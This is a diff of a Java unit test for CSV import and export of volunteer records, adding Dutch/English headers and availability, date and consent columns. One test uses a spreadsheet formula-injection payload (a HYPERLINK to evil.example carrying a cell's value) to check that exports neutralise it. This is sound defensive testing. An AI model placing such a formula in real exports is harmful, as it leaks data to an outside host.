@@ -3,18 +3,25 @@ package be.pillars.core.internal.volunteer;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 
 import java.nio.charset.StandardCharsets;
+import java.time.DayOfWeek;
 import java.time.Instant;
+import java.time.LocalDate;
+import java.time.LocalTime;
 import java.util.List;
+import java.util.Locale;
 import java.util.Set;
 import java.util.TreeSet;
 import java.util.UUID;
 
 import org.junit.jupiter.api.Test;
 
+import be.pillars.api.LocalizedText;
+import be.pillars.api.volunteer.Consent;
 import be.pillars.api.volunteer.Preference;
 import be.pillars.api.volunteer.Volunteer;
 import be.pillars.api.volunteer.VolunteerData;
 import be.pillars.api.volunteer.VolunteerStatus;
+import be.pillars.api.volunteer.WeeklySlot;
 
 class VolunteerCsvTest {
 
@@ -31,20 +38,23 @@ class VolunteerCsvTest {
     @Test
     void writesExcelFriendlyUtf8WithQuotingWhereNeeded() {
         String csv = VolunteerCsv.write(List.of(stored(VolunteerServiceContract.an("Ann-Sofie", "D'Hondt; Peeters",
-                "an@example.be"))));
-        assertEquals("\uFEFF" + VolunteerCsv.HEADER_TEXT + "\r\n"
+                "an@example.be"))), Locale.ENGLISH);
+        assertEquals("\uFEFFid;firstName;lastName;email;phone;birthDate;postalCode;district;languages;skills;"
+                + "interests;preference;status;availability;unavailableDates;consents\r\n"
                 + "00000000-0000-0000-0000-00000000000a;Ann-Sofie;\"D'Hondt; Peeters\";an@example.be;'+32 11 22 33 44;"
-                + "1990-04-01;3500;Kiewit;en|nl;cooking|first-aid;sport;BOTH;ACTIVE\r\n", csv);
+                + "1990-04-01;3500;Kiewit;en|nl;cooking|first-aid;sport;BOTH;ACTIVE;MONDAY 09:00-12:00;2026-12-24;"
+                + "matching@2026-11-01T08:00:00Z\r\n", csv);
     }
 
     @Test
     void aFormulaInANameIsExportedAsTextAndImportedBackAsStored() {
         String formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Open\")";
         String csv = VolunteerCsv.write(List.of(stored(VolunteerServiceContract.an(formula, "-Peeters",
-                "an@example.be"))));
+                "an@example.be"))), Locale.ENGLISH);
         assertEquals("00000000-0000-0000-0000-00000000000a;\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,"
                 + "\"\"Open\"\")\";'-Peeters;an@example.be;'+32 11 22 33 44;1990-04-01;3500;Kiewit;en|nl;"
-                + "cooking|first-aid;sport;BOTH;ACTIVE", csv.lines().toList().get(1));
+                + "cooking|first-aid;sport;BOTH;ACTIVE;MONDAY 09:00-12:00;2026-12-24;matching@2026-11-01T08:00:00Z",
+                csv.lines().toList().get(1));
         VolunteerCsv.Parsed back = VolunteerCsv.read(csv.getBytes(StandardCharsets.UTF_8));
         assertEquals(List.of(), back.problems());
         VolunteerData an = back.volunteers().get(0);
@@ -112,5 +122,44 @@ class VolunteerCsvTest {
         // U+DC00 encoded on its own, as a lax encoder writes a lone surrogate
         assertEquals("not_utf8", VolunteerCsv.read(new byte[] {'A', (byte) 0xED, (byte) 0xB0, (byte) 0x80}).problems()
                 .get(0).code());
+    }
+
+    @Test
+    void theHeaderIsDutchUnlessEnglishIsAskedAndAnImportTakesEitherWithEveryOptionalColumnBack() {
+        VolunteerData an = VolunteerServiceContract.an("An", "Peeters", "an@example.be");
+        String dutch = VolunteerCsv.write(List.of(stored(an)), LocalizedText.DUTCH);
+        assertEquals("\uFEFFid;voornaam;achternaam;e-mail;telefoon;geboortedatum;postcode;wijk;talen;vaardigheden;"
+                + "interesses;voorkeur;status;beschikbaarheid;onbeschikbaar;toestemmingen", dutch.lines().findFirst()
+                        .orElseThrow());
+        VolunteerCsv.Parsed back = read(dutch);
+        assertEquals(List.of(), back.problems());
+        VolunteerData read = back.volunteers().get(0);
+        assertEquals(an.availability(), read.availability());
+        assertEquals(an.unavailableDates(), read.unavailableDates());
+        assertEquals(an.consents(), read.consents());
+        assertEquals(null, read.gender(), "the gender is never written");
+    }
+
+    @Test
+    void anImportTakesTheOptionalColumnsOfTheJsonInDutchOrEnglishWords() {
+        VolunteerCsv.Parsed parsed = read("voornaam;achternaam;e-mail;postcode;voorkeur;gender;beschikbaarheid;"
+                + "onbeschikbaar;toestemmingen\n"
+                + "An;Peeters;an@example.be;3500;BOTH;non-binair;maandag 9:00-12:00|SATURDAY 14:00-17:30;"
+                + "2026-12-24|2026-12-31;matching@2026-11-01|guardian@2026-11-02T10:15:00Z\n");
+        assertEquals(List.of(), parsed.problems());
+        VolunteerData an = parsed.volunteers().get(0);
+        assertEquals("non-binair", an.gender());
+        assertEquals(List.of(new WeeklySlot(DayOfWeek.MONDAY, LocalTime.of(9, 0), LocalTime.of(12, 0)),
+                new WeeklySlot(DayOfWeek.SATURDAY, LocalTime.of(14, 0), LocalTime.of(17, 30))), an.availability());
+        assertEquals(Set.of(LocalDate.of(2026, 12, 24), LocalDate.of(2026, 12, 31)), an.unavailableDates());
+        assertEquals(List.of(new Consent("matching", Instant.parse("2026-11-01T00:00:00Z")),
+                new Consent("guardian", Instant.parse("2026-11-02T10:15:00Z"))), an.consents());
+
+        VolunteerCsv.Parsed bad = read("firstName;lastName;email;postalCode;preference;availability;"
+                + "unavailableDates;consents\n"
+                + "An;Peeters;an@example.be;3500;BOTH;someday 9:00-12:00|MONDAY 25:00-26:00;2026-13-01;matching\n");
+        assertEquals(List.of("2 availability invalid_slot", "2 availability invalid_slot", "2 unavailableDates "
+                + "invalid_date", "2 consents invalid_consent"), bad.problems().stream()
+                        .map(problem -> problem.row() + " " + problem.field() + " " + problem.code()).toList());
     }
 }
